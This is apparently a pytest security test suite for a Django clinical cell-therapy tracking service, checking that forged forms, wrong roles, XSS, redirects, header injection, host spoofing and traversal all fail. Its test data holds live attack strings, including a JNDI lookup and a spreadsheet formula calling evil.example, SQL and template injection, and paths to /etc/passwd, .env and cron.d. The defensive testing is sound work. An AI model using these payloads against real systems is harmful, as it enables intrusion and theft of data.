"""Attacks on the pages, as the usual scanners try them: none gets in, changes anything, or finds out what it should not."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import fields, replace
from typing import Any
from urllib.parse import urljoin

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from forms_found import read
from stages import NOW, STORY, Told

from livingdrug.care import models, store
from livingdrug.care.accounts import breakglass, who
from livingdrug.care.accounts.models import Account
from livingdrug.care.accounts.urls import urlpatterns as accounts
from livingdrug.care.pages import links
from livingdrug.care.pages.urls import urlpatterns as pages
from livingdrug.journey import events as e
from livingdrug.journey.state import evolve

SignIn = Callable[..., Any]

NAMES = (
    "search", "stage", "center", "site", "therapy", "state", "day", "kind", "for", "after", "act", "order", "payer", "who",
    "what", "since", "until", "patient", "journey", "next", "page", "scenario", "scale", "resource", "reason", "assessment",
    "expires", "says", "scope", "form", "account", "again", "live", "draw", "from", "to",
)  # fmt: skip
"""What pages read from their address."""

FILLED = {"event": "consent-given", "position": "2", "kind": "csv", "token": "x", "provider_id": "oidc"}
"""What stands in the address of a page where it names something."""

STAFF = [
    ("coordinator", "chop"),
    ("collection nurse", "chop"),
    ("courier", "chop"),
    ("operator", "morris-plains"),
    ("quality", "morris-plains"),
    ("physician", "chop"),
    ("bedside nurse", "chop"),
    ("pharmacist", "chop"),
    ("payer", "medicare"),
    ("auditor", ""),
]
PLAUSIBLE = {
    "at": "2026-03-02T10:15", "temperature": "38.9", "vasoactive": "0", "oxygen": "0", "consciousness": "0", "capd": "4",
    "weight": "30", "cells": "1.2e8", "reason": "because it is so", "password": "lapwing-granite-orbit-7", "mg": "240",
    "systolic": "", "saturation": "", "charted_at": "", **{f"capd{number}": "" for number in range(1, 9)},
    "device": "scanner-1", "scope": "treatment", "says": "it is so", "deviation": "DEV-1",
}  # fmt: skip


def addresses(id: str, patterns: Any = pages) -> Iterator[str]:
    """Every address of the service, with a journey where one is needed."""
    for each in patterns:
        route = str(each.pattern)
        for name, value in (FILLED | {"id": id}).items():
            route = route.replace(f"<str:{name}>", value)
        assert "<" not in route, f"{route} needs something that the tests do not know"
        yield f"/{route}"


def visitor() -> Any:
    """A browser of somebody who is not signed in."""
    return Client()


def version(id: str) -> int:
    return store.latest(id).version


def acts() -> int:
    return models.Event.objects.count()


# Forms of another site --------------------------------------------------------------------------------------------------


def test_no_address_takes_a_form_of_another_site(store_: Told, sign_in: SignIn) -> None:
    before = acts()
    for role, place in STAFF:
        client = sign_in(role, place)
        client.handler.enforce_csrf_checks = True
        for address in addresses(store_["infused"], [*pages, *accounts]):
            answer = client.post(address, PLAUSIBLE | {"act": "handed over", "do": "chart", "version": "1"})
            assert answer.status_code in (302, 403, 404, 405), f"{role}: {address}: {answer.status_code}"
            if answer.status_code == 302:
                assert "login" in answer.headers["Location"] or address.startswith("/accounts/"), address
    assert acts() == before


def test_reading_changes_nothing(store_: Told, sign_in: SignIn) -> None:
    before = acts()
    for role, place in STAFF:
        client = sign_in(role, place)
        for address in addresses(store_["infused"]):
            if not address.endswith(".json"):
                client.get(address, {"do": "chart", "act": "seen", "temperature": "39", **PLAUSIBLE})
    assert acts() == before


@pytest.mark.parametrize("method", ["put", "patch", "delete"])
def test_other_methods_change_nothing(method: str, store_: Told, sign_in: SignIn) -> None:
    before, client = acts(), sign_in("physician")
    for address in addresses(store_["infused"]):
        assert getattr(client, method)(address).status_code != 500, address
    assert acts() == before


# Rights -----------------------------------------------------------------------------------------------------------------


def forms_of(client: Any, id: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every form that somebody finds on the pages of a journey, filled, as it would be sent: where to, and what."""
    for address in (each for each in addresses(id) if id in each and not each.endswith(".json")):
        answer = client.get(address)
        if answer.status_code != 200 or not str(answer.headers["Content-Type"]).startswith("text/html"):
            continue
        for form in read(answer.content.decode()).forms:
            if form.method == "post" and not form.action.startswith("/accounts/"):
                where = urljoin(address, form.action or address).partition("#")[0]
                yield from ((where, each) for each in form.sent(PLAUSIBLE))


def glassed(sign_in: SignIn, told: Told, role: str, name: str) -> Any:
    """A clinician of another center who has opened the journey with a reason."""
    client = sign_in(role, "stanford")
    account = Account.objects.get(email=f"{role}.stanford@example.org".replace(" ", "-"))
    clinician = who.visitor_of(account)
    assert clinician is not None
    breakglass.open_glass(clinician, told[name], "the patient is in our emergency room", now=NOW)
    return client


STAGES = ("referred", "ordered", "collected", "in manufacture", "manufactured", "lymphodepletion", "gate passed", "infused")


@pytest.mark.parametrize("name", STAGES)
def test_an_open_glass_lets_look_and_not_act(name: str, store_: Told, sign_in: SignIn) -> None:
    tried = 0
    for role in ("physician", "bedside nurse"):
        found = list(forms_of(sign_in(role), store_[name]))
        intruder = glassed(sign_in, store_, role, name)
        assert intruder.get(links.journey(store_[name])).status_code == 200, "the glass is open"
        before, journey = acts(), version(store_[name])
        for where, sent in found:
            answer = intruder.post(where, sent)
            tried += 1
            assert answer.status_code in (302, 403, 404, 422, 200), f"{role}: {where}: {answer.status_code}"
            assert (acts(), version(store_[name])) == (before, journey), f"{role} behind the glass recorded at {where}"
    assert tried > 3


@pytest.mark.parametrize(("name", "role"), [("infused", "bedside nurse"), ("infused", "physician")])
def test_the_same_forms_are_taken_from_those_who_may(name: str, role: str, store_: Told, sign_in: SignIn) -> None:
    """Without this, the tests around it would hold for pages that take nothing from anybody."""
    client, before = sign_in(role), acts()
    for where, sent in list(forms_of(client, store_[name])):
        client.post(where, sent)
    assert acts() > before


@pytest.mark.parametrize("role", ["physician", "bedside nurse"])
def test_no_act_at_all_is_recorded_behind_the_glass(role: str, store_: Told, sign_in: SignIn) -> None:
    intruder, before = glassed(sign_in, store_, role, "infused"), acts()
    for kind in e.BY_NAME:
        sent = PLAUSIBLE | {"version": str(version(store_["infused"])), "key": f"k-{kind}"}
        assert intruder.post(links.act(store_["infused"], kind), sent).status_code in (403, 404), kind
        assert intruder.get(links.act(store_["infused"], kind)).status_code in (403, 404), kind
    assert acts() == before


@pytest.mark.parametrize("name", ["collected", "manufactured", "lymphodepletion", "infused"])
def test_what_one_role_may_send_another_may_not(name: str, store_: Told, sign_in: SignIn) -> None:
    """Forms of those who may, sent by an auditor, who reads everything, and by staff of other centers, who read nothing."""
    others = [("auditor", ""), ("physician", "stanford"), ("coordinator", "stanford"), ("payer", "commercial")]
    for role, place in STAFF[:-1]:
        found = list(forms_of(sign_in(role, place), store_[name]))
        before = acts()
        for other, elsewhere in others:
            intruder = sign_in(other, elsewhere)
            for where, sent in found:
                answer = intruder.post(where, sent)
                if other != "auditor":  # who may read a page, and is shown it again
                    assert answer.status_code in (302, 403, 404), f"{other}: {where}: {answer.status_code}"
                assert acts() == before, f"{other} recorded what only a {role} may, at {where}"


# What is typed runs nowhere ---------------------------------------------------------------------------------------------

POISON = "'\"><img src=x onerror=alert(1)>{{7*7}}{% now %}<script>alert(1)</script>"
KEPT = ("therapy", "center", "site", "kind_of", "payer", "currency", "chain", "collection", "assessment", "milestone", "test")
"""Fields whose value leads somewhere: a page of a journey without therapy or center is no page."""


def poisoned(event: e.Event) -> e.Event:
    """The event with every text that somebody may type replaced by markup."""
    held = {each.name: getattr(event, each.name) for each in fields(event)}
    changed = {
        name: f"{value[:20]}{POISON}"[:190]
        for name, value in held.items()
        if isinstance(value, str) and name not in KEPT and not (name == "by" and isinstance(event, e.PatientReferred))
    }
    return replace(event, **changed)


def open_door(therapy: Any, network: Any, journey: Any, event: e.Event, *, now: Any = None) -> Any:
    """What stands here in the place of the rules, which would refuse most of it."""
    return evolve(event, journey)


@pytest.fixture
def poison(store_: Told) -> str:
    """A journey that somebody filled with markup, wherever text can be."""
    told = STORY.Story(number=77, start=NOW.replace(month=1))
    events = [poisoned(each) for each in STORY.events(told)]
    first = events[0]
    assert isinstance(first, e.PatientReferred)
    made = store.start(replace(first, patient=f"P{POISON}"[:90]), "x", now=NOW, door=open_door)
    assert isinstance(made, store.Appended), made
    more = [e.DeviationOpened(at=NOW, by=POISON, deviation=POISON, says=POISON, holds=True)]
    more += [e.MismatchFound(at=NOW, by=POISON, item=POISON, expected=POISON, scanned=POISON, device=POISON)]
    more += [e.MilestoneDisputed(at=NOW, by=POISON, milestone="treatment", reason=POISON)]
    grown = store.append(made.journey, [*events[1:], *more], 1, "x", now=NOW, door=open_door)
    assert isinstance(grown, store.Appended), grown
    store.keep_person(
        f"P{POISON}"[:90], {"name": POISON, "born": "2016-01-01", "record_number": POISON, "contact": POISON}, "x"
    )
    return made.journey


def test_what_was_recorded_runs_on_no_page_of_anybody(poison: str, store_: Told, sign_in: SignIn) -> None:
    shown = 0
    for role, place in STAFF:
        client = sign_in(role, place)
        for address in [*addresses(poison), "/rules", "/accounts"]:
            answer = client.get(address)
            shown += _is_harmless(answer, f"{role}: {address}")
    assert shown > 20, "the markup was shown, as text"


def test_what_is_in_the_address_runs_nowhere(store_: Told, sign_in: SignIn) -> None:
    for role, place in [("physician", "chop"), ("coordinator", "chop"), ("auditor", ""), ("payer", "medicare")]:
        client = sign_in(role, place)
        for address in addresses(store_["infused"]):
            answer = client.get(address, dict.fromkeys(NAMES, POISON))
            assert answer.status_code < 500, address
            _is_harmless(answer, f"{role}: {address}")
    for address in ("/accounts/login/", "/break-glass", f"/journeys/{'%3Cscript%3E'}"):
        _is_harmless(visitor().get(address, {"next": POISON, "journey": POISON}), address)


def test_what_is_typed_and_refused_runs_nowhere(store_: Told, sign_in: SignIn) -> None:
    tried = 0
    for role, place, name in [
        ("physician", "chop", "lymphodepletion"), ("bedside nurse", "chop", "infused"), ("courier", "chop", "collected"),
        ("quality", "morris-plains", "manufactured"), ("operator", "morris-plains", "accepted"),
        ("coordinator", "chop", "ordered"), ("payer", "medicare", "response assessed"), ("coordinator", "chop", "referred"),
    ]:  # fmt: skip
        client = sign_in(role, place)
        for where, sent in list(forms_of(client, store_[name])):
            kept = ("version", "key", "do", "act", "password", "event")
            answer = client.post(where, {key: value if key in kept else POISON for key, value in sent.items()})
            assert answer.status_code < 500, where
            tried += _is_harmless(answer, f"{role}: {where}")
    assert tried > 5


def _is_harmless(answer: Any, where: str) -> int:
    """Nothing runs; 1 where the markup is there as text."""
    if getattr(answer, "streaming", False):
        return 0
    kind, text = str(answer.headers.get("Content-Type", "")), answer.content.decode()
    assert answer.headers.get("X-Content-Type-Options") == "nosniff", where
    if not kind.startswith("text/html"):
        assert kind.startswith(("application/", "text/csv", "image/svg")) or not text, f"{where}: {kind}"
        return 0
    found = read(text)
    assert not found.runs, f"{where}: {found.runs[:3]}"
    assert "img" not in found.tags, f"{where}: an image of somebody else"
    assert "49{%" not in text, f"{where}: what was typed was taken for a template"
    return "onerror=alert" in text


# Whereto ----------------------------------------------------------------------------------------------------------------

OUTSIDE = [
    "https://evil.example/", "//evil.example", "/\\evil.example", "\\\\evil.example", "///evil.example", "http:evil.example",
    "javascript:alert(1)", "/\t/evil.example", "\n//evil.example", "https:/evil.example", "//evil.example@cells.example",
]  # fmt: skip


@pytest.mark.parametrize("outside", OUTSIDE)
def test_an_act_leads_to_no_other_site(outside: str, store_: Told, sign_in: SignIn) -> None:
    sent = {"version": str(version(store_["referred"])), "at": "2026-03-02T10:15", "scope": "treatment", "after": outside}
    answer = sign_in("coordinator").post(links.act(store_["referred"], "consent given"), sent)
    assert answer.status_code == 302
    assert answer.headers["Location"] == links.journey(store_["referred"])


@pytest.mark.parametrize("outside", OUTSIDE)
def test_signing_in_leads_to_no_other_site(outside: str, store_: Told, sign_in: SignIn) -> None:
    sign_in("coordinator")
    account = Account.objects.get(email="coordinator.chop@example.org")
    account.set_password("lapwing-granite-orbit-7")
    account.save()
    sent = {"login": account.email, "password": "lapwing-granite-orbit-7", "next": outside}
    answer = visitor().post("/accounts/login/", sent)
    assert answer.status_code == 302
    where = answer.headers["Location"]
    assert where.startswith("/"), where
    assert not where.startswith(("//", "/\\")), where
    assert "evil" not in where.partition("?")[0]


def test_no_header_is_made_of_what_is_typed(store_: Told, sign_in: SignIn) -> None:
    client = sign_in("coordinator")
    sent = {"version": str(version(store_["referred"])), "at": "2026-03-02T10:15", "scope": "treatment"}
    answer = client.post(links.act(store_["referred"], "consent given"), sent | {"after": "/board\r\nSet-Cookie: a=b"})
    assert "Set-Cookie" not in answer.headers
    assert answer.headers["Location"] == links.journey(store_["referred"])
    for address in ("/board?search=%0d%0aX-Own:%201", "/slots?day=%0d%0aX-Own:%201", "/accounts/login/?next=%0d%0aX-Own:%201"):
        assert "X-Own" not in client.get(address).headers


# Sessions and hosts -----------------------------------------------------------------------------------------------------


def test_a_session_that_somebody_else_has_set_is_not_gone_on_with(store_: Told, sign_in: SignIn) -> None:
    sign_in("coordinator")
    account = Account.objects.get(email="coordinator.chop@example.org")
    account.set_password("lapwing-granite-orbit-7")
    account.save()
    client = visitor()
    client.cookies["sessionid"] = "a" * 32
    client.get("/accounts/login/")
    before = client.cookies["csrftoken"].value
    client.post("/accounts/login/", {"login": account.email, "password": "lapwing-granite-orbit-7"})
    assert client.cookies["sessionid"].value not in ("", "a" * 32)
    assert client.cookies["sessionid"]["httponly"]
    assert client.cookies["csrftoken"].value != before
    kept = client.cookies["sessionid"].value
    client.post("/accounts/logout/")
    stale = visitor()
    stale.cookies["sessionid"] = kept
    assert stale.get("/board").status_code == 302, "a session that was ended is over"


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "testserver@evil.example", "testserver:80:80"])
def test_another_host_gets_no_answer(host: str, store_: Told, sign_in: SignIn) -> None:
    assert sign_in("coordinator").get("/board", headers={"Host": host}).status_code == 400


def test_what_a_proxy_might_claim_makes_no_link(store_: Told, sign_in: SignIn) -> None:
    claimed = {
        "X-Forwarded-Host": "evil.example",
        "Forwarded": "host=evil.example",
        "X-Original-URL": "/audit",
        "X-Rewrite-URL": "/audit",
    }
    for address in ("/board", "/ledger", "/slots"):
        answer = sign_in("coordinator").get(address, headers=claimed)
        assert "evil.example" not in answer.content.decode()
    answer = visitor().get("/board", headers=claimed)
    assert "evil.example" not in answer.headers["Location"]


# More than was asked for ------------------------------------------------------------------------------------------------


def test_fields_that_nobody_asked_for_change_nothing(store_: Told, sign_in: SignIn) -> None:
    more = {
        "by": "chop-physician-1", "recorded": "2020-01-01", "journey": store_["infused"], "name": "died", "event": "died",
        "account": "x", "is_superuser": "1", "extra_roles": "administrator", "roles": "auditor", "position": "1",
    }  # fmt: skip
    sent = {"version": str(version(store_["referred"])), "at": "2026-03-02T10:15", "scope": "treatment", **more}
    other = version(store_["infused"])
    assert sign_in("coordinator").post(links.act(store_["referred"], "consent given"), sent).status_code == 302
    event = store.latest(store_["referred"]).state.history[-1]
    assert isinstance(event, e.ConsentGiven)
    assert event.by == "chop-coordinator-1"
    assert version(store_["infused"]) == other
    row = models.Event.objects.get(journey_id=store_["referred"], version=version(store_["referred"]))
    assert row.account == "coordinator.chop@example.org"
    assert row.recorded.startswith("2026-03-02")


def test_nobody_makes_themselves_an_administrator(store_: Told, sign_in: SignIn) -> None:
    client = sign_in("coordinator")
    more = {"extra_roles": ["administrator"], "roles": ["administrator"], "is_active": "1", "person": "chop-physician-1"}
    for address in [*addresses(store_["referred"], accounts), "/accounts/2fa/"]:
        if "logout" not in address:
            client.post(address, more | {"oldpassword": "x", "password1": "y", "password2": "y", "role": "administrator"})
    account = Account.objects.get(email="coordinator.chop@example.org")
    assert (account.extra_roles, account.person) == ([], "chop-coordinator-1")
    assert client.get("/accounts").status_code == 403


# Odd input --------------------------------------------------------------------------------------------------------------

SURROGATE = "\ud800".encode("utf-8", "surrogatepass").decode("latin-1")
ODD = [
    "\0", "%00", SURROGATE, "9" * 400, "-1", "1e999", "NaN", "' OR 1=1 --", "../../../../etc/passwd", "[]",
    "${jndi:ldap://evil.example}", "\u202e\u0000", "💉" * 60, "a" * 5000,
]  # fmt: skip


@pytest.mark.parametrize("odd", ODD, ids=range(len(ODD)))
def test_odd_input_is_no_accident(odd: str, store_: Told, sign_in: SignIn) -> None:
    for role, place in [("coordinator", "chop"), ("auditor", "")]:
        client = sign_in(role, place)
        for address in addresses(store_["infused"]):
            if not address.endswith(".json"):
                assert client.get(address, dict.fromkeys(NAMES, odd)).status_code < 500, address


PATHS = [
    "/static/../settings.py", "/static/..%2f..%2fsettings.py", "/static/%2e%2e/%2e%2e/settings.py", "/static//etc/passwd",
    "/static/care/../../settings.py", "/static/care/%00style.css", "/journeys/../../etc/passwd", "/journeys/%00",
    "/journeys/%00/gate", "/journeys/..%2f..%2faccounts", "/cohort/export.../../x", "/journeys/x/act/%00",
    "/accounts/invitation/%00/", "/.git/config", "/.env", "/livingdrug.sqlite3", "/api/v1/journeys/%00",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
def test_no_path_leads_out_of_the_service(path: str, store_: Told, sign_in: SignIn) -> None:
    answer = sign_in("auditor").get(path)
    text = b"".join(answer.streaming_content) if getattr(answer, "streaming", False) else answer.content
    assert answer.status_code in (301, 302, 400, 401, 403, 404), path
    assert b"LIVINGDRUG_SECRET_KEY" not in text
    assert b"root:" not in text


TABLES = {
    "no table": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "a page": b"<html><script>alert(1)</script></html>",
    "nothing": b"",
    "zip": b"PK\x03\x04" + b"\0" * 200,
    "a formula": b"patient,infused\n=HYPERLINK(\"http://evil.example\"),1\n",
    "much": b"a,b\n" + b"1,2\n" * 2_000_000,
    "wide": b",".join(b"c%d" % number for number in range(20_000)) + b"\n",
    "bytes": bytes(range(256)) * 40,
}  # fmt: skip


@pytest.mark.parametrize("case", TABLES)
def test_an_upload_is_checked_before_it_is_read(case: str, store_: Told, sign_in: SignIn) -> None:
    for name, kind in [
        ("../../../etc/cron.d/own.csv", "text/csv"),
        ("own.csv", "text/html"),
        ("own.html", "image/png"),
        ("a\0.csv", "x/y"),
    ]:
        file = SimpleUploadedFile(name, TABLES[case], kind)
        answer = sign_in("physician").post("/cohort", {"table": file})
        assert answer.status_code in (200, 302, 400, 413, 422), f"{name}: {answer.status_code}"
        if answer.status_code in (200, 422):
            _is_harmless(answer, name)


def test_a_temperature_log_is_checked_like_any_upload(store_: Told, sign_in: SignIn) -> None:
    before = acts()
    for case, content in TABLES.items():
        sent = {"act": "temperature logged", "version": str(version(store_["collected"])), "item": "x",
                "at": "2026-03-02T10:15", "file": SimpleUploadedFile("x.csv", content)}  # fmt: skip
        answer = sign_in("courier").post(f"/journeys/{store_['collected']}/custody", sent)
        assert answer.status_code in (400, 403, 413, 422), case
    assert acts() == before


# Every answer -----------------------------------------------------------------------------------------------------------


def test_every_page_forbids_frames_and_holds_nothing_inline(store_: Told, sign_in: SignIn) -> None:
    for role, place in STAFF:
        client = sign_in(role, place)
        for address in [*addresses(store_["infused"]), "/nowhere", "/accounts/login/"]:
            answer = client.get(address)
            policy = answer.headers["Content-Security-Policy"]
            assert "frame-ancestors 'none'" in policy, address
            assert "unsafe" not in policy, address
            assert answer.headers["X-Frame-Options"] == "DENY", address
            assert answer.headers["Cache-Control"] == "no-store", address
            if str(answer.headers.get("Content-Type", "")).startswith("text/html"):
                assert not read(answer.content.decode()).runs, f"{address}: {read(answer.content.decode()).runs[:3]}"


def test_an_error_tells_nothing_of_the_inside(store_: Told, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*given: Any, **more: Any) -> Any:
        raise RuntimeError("the inside: Emily Example")

    monkeypatch.setattr(store, "audit", broken)
    client = sign_in("physician")
    client.raise_request_exception = False
    answer = client.get(links.journey(store_["infused"]))
    assert answer.status_code == 500
    assert not re.search("inside|Emily|Traceback|RuntimeError|/livingdrug/", answer.content.decode())
    assert answer.headers["Content-Security-Policy"]
